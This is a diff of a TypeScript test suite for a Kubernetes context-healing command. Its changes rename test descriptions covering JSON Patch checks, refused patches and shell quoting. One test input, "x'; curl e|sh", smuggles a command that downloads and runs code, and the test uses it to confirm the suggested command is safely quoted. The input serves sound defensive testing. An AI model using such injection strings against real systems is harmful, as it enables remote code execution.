@@ -11,7 +11,7 @@ import { healableContext } from './context.ts';
 
 const progress: Progress = { plan() {}, now() {}, note() {}, step: (_, work) => work() };
 
-describe('a context is healed', () => {
+describe('healing a context', () => {
   let folder: string;
   let server: ListeningServer;
   const environment = { KUBECONFIG: process.env.KUBECONFIG, XDG_STATE_HOME: process.env.XDG_STATE_HOME };
@@ -51,7 +51,7 @@ describe('a context is healed', () => {
     return heal({ progress, signal: AbortSignal.timeout(10_000) });
   };
 
-  it('by a JSON Patch that tests what the journal says', async () => {
+  it('sends a JSON Patch that tests the journaled value', async () => {
     const status = { observedGeneration: 1, replicas: 2, updatedReplicas: 2, availableReplicas: 2 };
     const spec = { replicas: 4, template: {}, selector: {} };
     const web = { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web' }, spec };
@@ -73,7 +73,7 @@ describe('a context is healed', () => {
   }).timeout(20_000);
 
   const refused: { readonly [what: string]: readonly [() => object, RegExp] } = {
-    'a node that is said to be in a namespace': [
+    'a node in a namespace': [
       () => patch({ apiVersion: 'v1', kind: 'Node', name: 'n1' }, { path: ['spec', 'unschedulable'], after: true }),
       /only Deployments may be patched/,
     ],
@@ -96,7 +96,7 @@ describe('a context is healed', () => {
     ],
   };
   for (const [what, [action, why]] of Object.entries(refused)) {
-    it(`never where the journal names ${what}, before anything is sent`, async () => {
+    it(`is refused before any request if the journal names ${what}`, async () => {
       await assert.rejects(healed(patch(), action()), why);
       assert.deepEqual(server.asked, []);
       assert.ok(!('polluted' in {}));
@@ -104,7 +104,7 @@ describe('a context is healed', () => {
     });
   }
 
-  it('by a command that a shell takes as it is meant', () => {
+  it('is suggested as a command that is quoted for a shell', () => {
     assert.equal(healableContext('prod').healCommand, './holdfast heal --context prod --i-know-this-cluster');
     assert.equal(
       healableContext("x'; curl e|sh").healCommand,
